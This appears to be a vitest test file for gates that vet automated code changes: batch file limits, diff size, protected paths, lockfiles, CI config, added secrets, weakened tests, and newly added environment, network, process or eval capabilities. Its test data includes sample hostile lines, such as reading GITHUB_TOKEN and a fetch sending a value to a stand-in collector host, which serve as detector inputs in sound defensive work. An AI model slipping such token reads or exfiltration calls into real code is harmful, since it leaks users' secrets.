import { describe, expect, it } from 'vitest';
import {
  checkGates,
  findAddedCapabilities,
  type GateInput,
  isTestFile,
  testShape,
  testWeakening,
} from '../src/gates.ts';

const ok: GateInput = {
  changedFiles: ['src/a.ts', 'src/b.ts'],
  allowedFiles: ['src/a.ts', 'src/b.ts'],
  diffLines: 10,
  maxDiffLines: 10,
};

describe('checkGates', () => {
  it('passes a change to the batch files within the line limit', () => {
    expect(checkGates(ok)).toEqual([]);
  });

  it('passes a change to only some of the batch files, or none', () => {
    expect(checkGates({ ...ok, changedFiles: ['src/b.ts'] })).toEqual([]);
    expect(checkGates({ ...ok, changedFiles: [], diffLines: 0 })).toEqual([]);
  });

  it('names every changed file outside the batch, in the order they were listed', () => {
    expect(checkGates({ ...ok, changedFiles: ['src/z.ts', 'src/a.ts', 'package.json', 'src/A.ts'] })).toEqual(
      [
        { gate: 'only_batch_files', detail: 'changes outside the batch: src/z.ts, package.json, src/A.ts' },
        { gate: 'manifest_or_lockfile', detail: 'dependency manifests or lockfiles changed: package.json' },
      ],
    );
  });

  it('refuses a diff one line over the limit', () => {
    expect(checkGates({ ...ok, diffLines: 11 })).toEqual([
      { gate: 'diff_size', detail: '11 changed lines, limit 10' },
    ]);
  });

  it('reports every gate that is broken', () => {
    expect(
      checkGates({ ...ok, changedFiles: ['src/a.ts', '.github/workflows/ci.yml'], diffLines: 500 }),
    ).toEqual([
      { gate: 'only_batch_files', detail: 'changes outside the batch: .github/workflows/ci.yml' },
      { gate: 'diff_size', detail: '500 changed lines, limit 10' },
      { gate: 'ci_config', detail: 'CI configuration changed: .github/workflows/ci.yml' },
    ]);
  });

  it('compares paths exactly, not by prefix or case', () => {
    expect(
      checkGates({
        ...ok,
        changedFiles: ['src/a.tsx', './src/a.ts', 'SRC/a.ts'],
        allowedFiles: ['src/a.ts'],
      }),
    ).toEqual([
      { gate: 'only_batch_files', detail: 'changes outside the batch: src/a.tsx, ./src/a.ts, SRC/a.ts' },
    ]);
  });
});

describe('gates on what may never change', () => {
  it('refuses protected paths, manifests, lockfiles and CI configuration even inside the batch', () => {
    const files = [
      'src/core/secret.ts',
      'pnpm-lock.yaml',
      'packages/x/package.json',
      '.github/workflows/ci.yml',
      '.gitlab-ci.yml',
    ];
    const violations = checkGates({
      ...ok,
      changedFiles: files,
      allowedFiles: files,
      protectedGlobs: ['src/core/**'],
    });
    expect(violations).toEqual([
      { gate: 'protected_path', detail: 'protected paths changed: src/core/secret.ts' },
      {
        gate: 'manifest_or_lockfile',
        detail: 'dependency manifests or lockfiles changed: pnpm-lock.yaml, packages/x/package.json',
      },
      { gate: 'ci_config', detail: 'CI configuration changed: .github/workflows/ci.yml, .gitlab-ci.yml' },
    ]);
  });

  it('allows the one new test file of add_missing_test and nothing else', () => {
    const input = { ...ok, changedFiles: ['src/a.ts', 'src/a.test.ts'], allowedNewFile: 'src/a.test.ts' };
    expect(checkGates(input)).toEqual([]);
    expect(checkGates({ ...input, changedFiles: ['src/a.ts', 'src/b.test.ts'] })[0]?.gate).toBe(
      'only_batch_files',
    );
  });

  it('reports every added secret with its place', () => {
    expect(
      checkGates({ ...ok, addedSecrets: [{ file: 'src/a.ts', line: 3, kind: 'GitHub token' }] }),
    ).toEqual([{ gate: 'secret_added', detail: 'src/a.ts:3: GitHub token' }]);
  });
});

/**
 * Skipped and focused test calls spelled from parts: they are test data here, and tools that
 * look for skipped or focused tests in the source must not mistake them for real ones.
 */
const call = (fn: string, modifier: string): string => `${fn}.${modifier}(`;

describe('gates on tests', () => {
  const base =
    "describe('x', () => {\n  it('a', () => {\n    expect(1).toBe(1);\n    expect(2).toBe(2);\n  });\n  test('b', () => { assert.equal(1, 1); });\n});\n";

  it('counts tests, skips, focus and assertions, ignoring comments and strings', () => {
    expect(testShape(base)).toEqual({
      tests: 2,
      skipped: 0,
      focused: 0,
      assertions: 3,
      typeAssertions: 0,
      testDeclarations: 0,
    });
    expect(
      testShape("// it('gone', () => {})\nconst s = \"expect(x)\";\nit.each([1])('n %i', () => {});\n"),
    ).toEqual({ tests: 1, skipped: 0, focused: 0, assertions: 0, typeAssertions: 0, testDeclarations: 0 });
  });

  it.each([
    [
      'a removed test',
      base.replace(/ {2}test\('b'.*\n/, ''),
      'tests removed (2 -> 1); assertions dropped (3 -> 2)',
    ],
    ['a skipped test', base.replace("it('a'", `${call('it', 'skip')}'a'`), 'tests skipped (0 -> 1)'],
    ['xit', base.replace("it('a'", "xit('a'"), 'tests removed (2 -> 1); tests skipped (0 -> 1)'],
    [
      'a focused test',
      base.replace("test('b'", `${call('test', 'only')}'b'`),
      'tests focused with .only (0 -> 1)',
    ],
    ['xdescribe', base.replace("describe('x'", "xdescribe('x'"), 'tests skipped (0 -> 1)'],
    ['a dropped assertion', base.replace('    expect(2).toBe(2);\n', ''), 'assertions dropped (3 -> 2)'],
  ])('refuses %s', (_what, after, detail) => {
    expect(testWeakening(base, after).join('; ')).toBe(detail);
    const violations = checkGates({ ...ok, testFiles: [{ file: 'src/a.test.ts', before: base, after }] });
    expect(violations).toEqual([{ gate: 'test_weakened', detail: `src/a.test.ts: ${detail}` }]);
  });

  it('refuses a deleted test file and accepts a test file that only grew', () => {
    expect(checkGates({ ...ok, testFiles: [{ file: 'src/a.test.ts', before: base, after: null }] })).toEqual([
      { gate: 'test_deleted', detail: 'test file deleted: src/a.test.ts' },
    ]);
    const grown = base.replace(
      '  });\n  test(',
      "    expect(3).toBe(3);\n  });\n  it('c', () => {});\n  test(",
    );
    expect(checkGates({ ...ok, testFiles: [{ file: 'src/a.test.ts', before: base, after: grown }] })).toEqual(
      [],
    );
  });

  it.each([
    ['src/a.test.ts', true],
    ['src/a.spec.tsx', true],
    ['src/__tests__/a.ts', true],
    ['tests/a.ts', true],
    ['src/testing.ts', false],
    ['src/a.ts', false],
  ])('isTestFile(%s) is %s by convention', (file, expected) => {
    expect(isTestFile(file, [])).toBe(expected);
  });
});

describe('gates on what a fix never needs', () => {
  const before =
    'export function retry(n: number): number {\n  // TODO: read the limit from the environment\n  return n;\n}\n';

  it.each([
    ['an environment read', 'const limit = Number(process.env.GITHUB_TOKEN);', 'environment'],
    ['an environment read by index', "const t = process['env'].TOKEN;", 'environment'],
    ['a network call', "void fetch('https://collector.example/?t=' + n);", 'network'],
    ['a network module', "import { request } from 'node:https';", 'network'],
    ['a required network module', "const net = require('net');", 'network'],
    ['a process', "import { execSync } from 'child_process';", 'process'],
    ['eval', "eval('n');", 'eval'],
    ['a string turned into code', "new Function('return 1')();", 'eval'],
  ] as const)('refuses a change that adds %s', (_what, line, kind) => {
    const after = before.replace('  return n;', `  ${line}\n  return n;`);
    const added = findAddedCapabilities('src/retry.ts', before, after);
    expect(added).toEqual([{ file: 'src/retry.ts', kind, added: 1 }]);
    const violations = checkGates({
      changedFiles: ['src/retry.ts'],
      allowedFiles: ['src/retry.ts'],
      diffLines: 1,
      maxDiffLines: 400,
      addedCapabilities: added,
    });
    expect(violations).toHaveLength(1);
    expect(violations[0]?.gate).toBe('capability_added');
    expect(violations[0]?.detail).toMatch(/^src\/retry\.ts: adds .+ \(1\)$/);
  });

  it('leaves alone what was there before, what goes away, comments and lookalikes', () => {
    const uses = "const t = process.env.HOME;\nexport const get = () => fetch('/x');\n";
    expect(findAddedCapabilities('a.ts', uses, `${uses}export const y = 1;\n`)).toEqual([]);
    expect(findAddedCapabilities('a.ts', uses, 'export const y = 1;\n')).toEqual([]);
    expect(
      findAddedCapabilities('a.ts', 'x;\n', '// process.env.X and fetch(url)\n/* eval(x) */\nx;\n'),
    ).toEqual([]);
    expect(
      findAddedCapabilities(
        'a.ts',
        'x;\n',
        "import { env } from './env';\nthis.fetcher(1);\nprefetch(2);\nx;\n",
      ),
    ).toEqual([]);
    expect(findAddedCapabilities('a.ts', 'x;\n', null)).toEqual([]);
  });
});
